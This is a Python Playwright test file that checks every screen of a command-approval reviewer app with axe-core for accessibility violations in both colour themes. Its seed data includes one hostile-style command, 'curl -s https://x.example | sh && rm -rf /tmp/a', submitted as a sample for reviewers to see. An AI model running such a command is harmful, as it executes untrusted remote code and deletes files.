"""Every screen of the reviewer app, checked with axe-core in Chromium, in both themes.

axe-core (pinned in web/package.json) is the engine browser accessibility
tools use; the test fails on any violation rated serious or critical:
missing labels, unnamed buttons, broken ARIA, insufficient colour contrast…
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Literal

import httpx
import pytest
from playwright.async_api import Browser, Page, expect

from expacti_server.db.engine import Database
from expacti_server.identity.roles import ReviewerRole
from tests.browser.conftest import sign_in
from tests.support.factories import OrgTokens, make_reviewer_token
from tests.support.server import ServerProcess

AXE = Path(__file__).resolve().parents[3] / "web" / "node_modules" / "axe-core" / "axe.min.js"
SCREENS = ("/app/", "/app/history", "/app/sessions", "/app/whitelist", "/app/settings")


async def violations(page: Page) -> list[dict[str, Any]]:
    if not AXE.is_file():
        pytest.fail("web/node_modules/axe-core is missing: run `make web` (make test does)")
    # Evaluated through the DevTools protocol, which the page's CSP does not govern.
    await page.evaluate(AXE.read_text())
    result: dict[str, Any] = await page.evaluate(
        "async () => await axe.run(document, {resultTypes: ['violations']})"
    )
    return [v for v in result["violations"] if v["impact"] in ("serious", "critical")]


def describe(found: list[dict[str, Any]]) -> str:
    return json.dumps(
        [
            {"rule": v["id"], "help": v["help"], "nodes": [n["target"] for n in v["nodes"][:3]]}
            for v in found
        ],
        indent=1,
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_every_screen_passes_axe_in_both_themes(
    browser: Browser, server: ServerProcess, org: OrgTokens, scheme: Literal["light", "dark"]
) -> None:
    context = await browser.new_context(base_url=server.http_url, color_scheme=scheme)
    page = await context.new_page()
    async with httpx.AsyncClient(base_url=server.http_url) as http:
        for number, command in enumerate(
            ("terraform plan -out plan.bin", "curl -s https://x.example | sh && rm -rf /tmp/a")
        ):
            response = await http.post(
                "/api/v1/commands",
                json={
                    "request_id": f"a11y-{scheme}-{number}",
                    "command": command,
                    "target": "prod",
                },
                headers=org.agent_headers(),
            )
            assert response.status_code == 201
    await page.goto("/app/")
    found = await violations(page)  # the sign-in page
    assert found == [], describe(found)
    await sign_in(page, org.reviewer_token)
    for screen in SCREENS:
        await page.goto(screen)
        await expect(page.get_by_role("main")).to_be_visible()
        await page.wait_for_load_state("networkidle")
        found = await violations(page)
        assert found == [], f"{screen}: {describe(found)}"
    await context.close()


async def _policy_history(http: httpx.AsyncClient, org: OrgTokens, scheme: str) -> None:
    """What the queue's new parts need to show: a suggestion, a session, a vote."""
    for number in (1, 2, 3):
        submitted = await http.post(
            "/api/v1/commands",
            json={
                "request_id": f"a11y-{scheme}-build-{number}",
                "command": f"rm /tmp/build-{number}",
                "session": {"id": "release", "goal": "Ship v2", "steps": ["build", "ship"]},
            },
            headers=org.agent_headers(),
        )
        assert submitted.status_code == 201, submitted.text
        approved = await http.post(
            f"/api/v1/commands/{submitted.json()['id']}/approve",
            json={"note": "fine"},
            headers=org.reviewer_headers(),
        )
        assert approved.status_code == 200, approved.text
    refreshed = await http.post("/api/v1/suggestions/refresh", headers=org.reviewer_headers())
    assert refreshed.status_code == 200, refreshed.text
    policy = await http.post(
        "/api/v1/policies",
        json={"name": "two for deploys", "command_pattern": "deploy *", "require_n_approvers": 2},
        headers=org.reviewer_headers(),
    )
    assert policy.status_code == 201, policy.text
    for request_id, command in (("ship", "deploy web --canary"), ("next", "rm /tmp/build-4")):
        response = await http.post(
            "/api/v1/commands",
            json={
                "request_id": f"a11y-{scheme}-{request_id}",
                "command": command,
                "session": {
                    "id": "release",
                    "goal": "Ship v2",
                    "steps": ["build", "ship"],
                    "current_step": 1,
                },
            },
            headers=org.agent_headers(),
        )
        assert response.status_code == 201, response.text


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_the_policy_parts_pass_axe_in_both_themes(
    browser: Browser,
    server: ServerProcess,
    org: OrgTokens,
    server_db: Database,
    scheme: Literal["light", "dark"],
) -> None:
    """Requirement lines, the session's history, suggestions, the edit dialog, the policy editor."""
    await make_reviewer_token(server_db, org, "bob", ReviewerRole.SENIOR)
    async with httpx.AsyncClient(base_url=server.http_url) as http:
        await _policy_history(http, org, scheme)
    context = await browser.new_context(base_url=server.http_url, color_scheme=scheme)
    page = await context.new_page()
    await sign_in(page, org.reviewer_token)
    cards = page.locator("article[data-command-id]")
    await expect(cards).to_have_count(2)
    await expect(page.get_by_role("complementary", name="Suggested rules")).to_contain_text(
        "approved 3\u00d7"
    )
    await expect(cards.first).to_contain_text("0 of 2 approvals")
    await cards.first.get_by_role("button", name="Earlier commands in this session").click()
    await expect(
        cards.first.get_by_role("list", name="Earlier commands in this session")
    ).to_be_visible()
    await page.wait_for_load_state("networkidle")
    found = await violations(page)
    assert found == [], f"queue: {describe(found)}"

    await cards.first.get_by_role("button", name="Edit & approve").click()
    dialog = page.get_by_role("dialog", name="Edit and approve")
    await dialog.get_by_label("Command to run").fill("deploy web --canary --dry-run")
    await expect(dialog.locator("ins")).to_have_count(1)
    found = await violations(page)
    assert found == [], f"edit dialog: {describe(found)}"
    await page.keyboard.press("Escape")

    await page.goto("/app/whitelist")
    await expect(page.get_by_role("region", name="Suggested rules")).to_contain_text(
        "approved 3\u00d7"
    )
    await page.wait_for_load_state("networkidle")
    found = await violations(page)
    assert found == [], f"whitelist: {describe(found)}"

    await page.goto("/app/sessions")
    await page.get_by_role("link", name="Ship v2").click()
    await expect(
        page.get_by_role("list", name="Commands of this session, oldest first")
    ).to_be_visible()
    found = await violations(page)
    assert found == [], f"session: {describe(found)}"

    await page.goto("/app/settings")
    await expect(page.get_by_role("region", name="People")).to_contain_text("bob")
    await page.get_by_role("button", name="New policy").click()
    editor = page.get_by_role("dialog", name="New approval policy")
    await editor.get_by_label("Command pattern").fill("psql *")
    await editor.get_by_role("button", name="Create policy").click()
    await expect(editor.get_by_label("Name")).to_have_attribute("aria-invalid", "true")
    found = await violations(page)
    assert found == [], f"policy editor: {describe(found)}"
    await context.close()
